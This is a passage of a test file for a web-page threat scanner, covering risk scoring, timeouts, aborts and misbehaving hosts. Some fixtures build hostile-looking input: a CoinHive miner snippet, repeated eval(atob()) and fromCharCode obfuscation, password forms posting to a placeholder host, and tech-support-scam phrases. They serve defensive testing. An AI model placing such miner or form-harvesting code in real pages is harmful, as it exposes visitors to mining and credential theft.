    expect(verdict.judged).toBe(true);
    expect(texts(verdict)).toContain('Telegram bot');
  });
});

describe('the verdict', () => {
  const indicator = fc.record<Indicator>({ points: fc.integer({ min: 0, max: 100 }), text: fc.string() });
  const layer = fc.record<LayerVerdict>({
    judged: fc.boolean(),
    indicators: fc.array(indicator, { maxLength: 6 }),
  });
  const verdicts = fc.record<Verdicts>(Object.fromEntries(LAYERS.map((name) => [name, layer])) as never, {
    requiredKeys: [],
  });

  test('never falls when an indicator is added', () => {
    fc.assert(
      fc.property(verdicts, fc.constantFrom(...LAYERS), indicator, (before, name, more) => {
        const known = before[name] ?? { judged: false, indicators: [] };
        const after = { ...before, [name]: { ...known, indicators: [...known.indicators, more] } };
        expect(judge(after).riskScore).toBeGreaterThanOrEqual(judge(before).riskScore);
      }),
    );
  });

  test('is never BENIGN unless scripts and document were looked at', () => {
    fc.assert(
      fc.property(verdicts, (given) => {
        const { threatLevel } = judge(given);
        if (!given.scripts?.judged || !given.document?.judged) expect(threatLevel).not.toBe('BENIGN');
      }),
    );
  });

  test('is the sum of what the layers contribute', () => {
    fc.assert(
      fc.property(verdicts, (given) => {
        const { riskScore, layers = [] } = judge(given);
        expect(layers.reduce((sum, { contribution }) => sum + (contribution ?? 0), 0)).toBe(riskScore);
      }),
    );
  });

  test('is decided by one decisive indicator, and grows with weak ones', () => {
    const judged = { judged: true, indicators: [] };
    const weak = { points: 20, text: 'weak', threat: 'phishing' as const };
    const level = (indicators: Indicator[]) =>
      judge({ scripts: judged, document: { judged: true, indicators } });
    expect(level([])).toMatchObject({ riskScore: 0, threatLevel: 'BENIGN', classification: 'benign' });
    expect(level([weak])).toMatchObject({ riskScore: 20, threatLevel: 'BENIGN' });
    expect(level([weak, weak])).toMatchObject({
      riskScore: 36,
      threatLevel: 'SUSPICIOUS',
      classification: 'phishing',
    });
    expect(level([{ ...weak, points: 100 }])).toMatchObject({ riskScore: 100, threatLevel: 'MALICIOUS' });
  });
});

describe('the scanner', () => {
  test('tells of each layer as it is done, and then of the whole', async () => {
    const { emissions, assessment } = await verdictOn(page('<title>Garden</title><p>Roses</p>'));
    expect(emissions[0]).toMatchObject({ kind: 'progress', fraction: 0 });
    const layers = emissions.flatMap((emission) =>
      emission.kind === 'progress' && emission.layer ? [emission.layer.name] : [],
    );
    expect([...layers].sort()).toEqual([...LAYERS].sort());
    expect(layers.indexOf('address')).toBeLessThan(layers.indexOf('scripts'));
    expect(assessment).toMatchObject({
      threatLevel: 'BENIGN',
      classification: 'benign',
      method: 'EXTENSION',
      riskScore: 0,
    });
  });

  test.each([
    ['nothing but its address', {}],
    ['blank source', { html: ' \n' }],
    ['scripts alone', { inlineScripts: ['var a = 1'] }],
    ['forms alone', { forms: [] }],
    ['links and a title', { title: 'x', links: [], iframes: [], scripts: [] }],
  ])('does not call a page BENIGN of which it knows %s', async (_what, init) => {
    expect((await verdictOn(page(init))).assessment).toMatchObject({
      threatLevel: 'UNKNOWN',
      classification: null,
    });
  });

  test('calls a page BENIGN whose posted lists are complete', async () => {
    const { assessment } = await verdictOn(
      page({ forms: [], inlineScripts: [], scripts: [], iframes: [], links: [] }),
    );
    expect(assessment.threatLevel).toBe('BENIGN');
  });

  test('fetches the page of a URL', async () => {
    const site = await startSite((request, response) => {
      response.setHeader('content-type', 'text/html');
      if (request.url === '/gone') response.statusCode = 404;
      if (request.url === '/moved') return response.writeHead(302, { location: '/bad' }).end();
      response.end(request.url === '/bad' ? '<script>new CoinHive.Anonymous(1)</script>' : '<p>Roses</p>');
    });
    cleanups.push(site.close);
    const at = async (path: string) =>
      (await collect(scanner, { kind: 'url', url: `${site.url}${path}` })).assessments[0];
    expect(await at('/')).toMatchObject({ threatLevel: 'BENIGN', method: 'FETCH' });
    expect(await at('/moved')).toMatchObject({
      threatLevel: 'MALICIOUS',
      classification: 'miner',
      url: `${site.url}/bad`,
    });
    // What an error page says is not what the page said.
    expect(await at('/gone')).toMatchObject({ threatLevel: 'UNKNOWN' });
    await site.close();
    await expect(at('/')).rejects.toThrow(/cannot fetch .*ECONNREFUSED/);
  });

  test('does not wait for the host of a posted page to judge what it has', async () => {
    const site = await startSite(() => {});
    cleanups.push(site.close);
    const judged: string[] = [];
    const input = { kind: 'page' as const, page: page('<p>Roses</p>', `${site.url}/`) };
    for await (const emission of runScanner(scanner, input)) {
      if (emission.kind === 'progress' && emission.layer) judged.push(emission.layer.name);
      if (['address', 'scripts', 'document'].every((name) => judged.includes(name))) break;
    }
    expect(judged).not.toContain('network');
  });

  test('gives up on a page that takes too long, warns, and does not call it BENIGN', async () => {
    const slow = page(`<p>x</p>${hostile.flood()}`);
    const { assessment, warnings } = await verdictOn(slow, { timeoutSeconds: 0.1 });
    expect(assessment.threatLevel).not.toBe('BENIGN');
    expect(warnings).toContainEqual({
      code: 'TIMED_OUT',
      message: expect.stringContaining('longer than 0.1 s'),
      count: 1,
    });
    // The threads that were ended are replaced.
    expect((await verdictOn(page('<p>Roses</p>'))).assessment.threatLevel).toBe('BENIGN');
  });

  test('stops when it is aborted while a thread works', async () => {
    const abort = new AbortController();
    const reason = new Error('the scan is cancelled');
    const emissions: Emission[] = [];
    const input = { kind: 'page' as const, page: page(hostile.flood()) };
    const reading = (async () => {
      const run = runScanner(scanner, input, { options: { network: false }, signal: abort.signal });
      for await (const emission of run) {
        emissions.push(emission);
        if (emissions.length === 2) setTimeout(() => abort.abort(reason), 20);
      }
    })();
    await expect(reading).rejects.toBe(reason);
    expect(emissions.filter(({ kind }) => kind === 'assessment')).toEqual([]);
  });

  test('takes no page any more when it is closed', async () => {
    const analysis = createAnalysis();
    await analysis.close();
    const limits = { signal: new AbortController().signal, timeoutMs: 1000 };
    const { document, scripts } = analysis.judge(page(''), limits);
    await Promise.all([
      expect(document).rejects.toThrow('closed'),
      expect(scripts).rejects.toThrow('closed'),
    ]);
  });
});

const hostile = {
  /** Thousands of places that conditions of rules have to compare with thousands of others. */
  slowForYara: () => 'setApprovalForAll hardwareConcurrency nonce keydown popstate\n'.repeat(20_000),
  oneLine: () => `<p>${'a '.repeat(1_500_000)}</p>`,
  manyElements: () => '<b x=y>'.repeat(100_000),
  deep: () => '<div style="display:none"><a href=x>'.repeat(40_000),
  forms: () => '<form action="https://x.example/"><input type=password>'.repeat(20_000),
  quotes: () => `<script>${'"\'`'.repeat(300_000)}</script>`,
  openCalls: () => `<script>${'eval(atob("aaaaaaaa'.repeat(50_000)}</script>`,
  /** seconds of work */
  flood: () => `<script>${'eval(atob("aaaaaaaa'.repeat(150_000)}</script>`,
  brackets: () => `<script>${`${'[]()!+'.repeat(60)}x`.repeat(4000)}</script>`,
  codes: () => `<script>${'fromCharCode(1,2,3,4,'.repeat(60_000)}</script>`,
  escapes: () => `<script>"${'\\x41'.repeat(400_000)}"</script>`,
  forwards: () => `<meta http-equiv=refresh content="0;url='${"' ".repeat(30_000)}">`.repeat(10),
  phones: () => `<p>${'call virus computer detected win r '.repeat(50_000)}</p>`,
  addresses: () => `<script>${'fetch("https://x.example/");document.forms;keydown;'.repeat(30_000)}</script>`,
  nested: () => `<script>${'<form '.repeat(200_000)}</script>`,
  controls: () => `<script>\u0000\ud800\udfff${'\u0001'.repeat(100_000)}</script>`,
  surrogates: () => `<p>${'\ud800'.repeat(500_000)}</p><form action="\udc00"><input type=password>`,
};

describe('a hostile page', () => {
  test.each(Object.keys(hostile) as (keyof typeof hostile)[])(
    '%s is judged within its time, or not at all',
    async (name) => {
      const source = hostile[name]();
      const html = source.startsWith('<') ? source : `<script>${source}</script>`;
      const judged = page(html.slice(0, 2_000_000));
      const start = performance.now();
      const { assessment, warnings } = await verdictOn(judged, { timeoutSeconds: 5 });
      expect(performance.now() - start).toBeLessThan(15_000);
      const unread = assessment.layers?.some(
        ({ name, score }) => /scripts|document/.test(name) && score === null,
      );
      if (unread) expect(assessment.threatLevel).not.toBe('BENIGN');
      if (unread) expect(warnings).not.toEqual([]);
    },
    30_000,
  );
});

const MISBEHAVING: Record<Exclude<Manner, 'answers'>, RequestListener> = {
  hangs: hostileSite.neverAnswers,
  drips: hostileSite.drips,
  lies: hostileSite.lies,
};

for (const kind of ['url', 'page'] as const) {
  scannerContract(scanner, async ({ manner }) => {
    const site = await startSite((request, response) => {
      if (manner !== 'answers') return MISBEHAVING[manner](request, response);
      response.setHeader('content-type', 'text/html');
      response.end('<title>corp</title><a href="/about">about</a>');
    });
    const url = `${site.url}/`;
    const input = kind === 'url' ? { kind, url } : { kind, page: page('<p>corp</p>', url) };
    return { input, close: site.close };
  });
}
